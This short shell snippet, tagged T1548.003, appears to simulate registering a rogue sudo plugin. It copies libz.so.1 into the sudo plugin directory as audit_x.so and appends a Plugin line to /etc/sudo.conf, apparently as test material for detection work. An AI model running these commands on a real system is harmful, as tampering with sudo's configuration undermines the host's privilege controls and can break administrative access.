# technique: T1548.003
# location: linux.sudo.plugin
# source: /etc/sudo.conf
cp /usr/lib/x86_64-linux-gnu/libz.so.1 /usr/libexec/sudo/audit_x.so
echo 'Plugin audit_x audit_x.so' >> /etc/sudo.conf
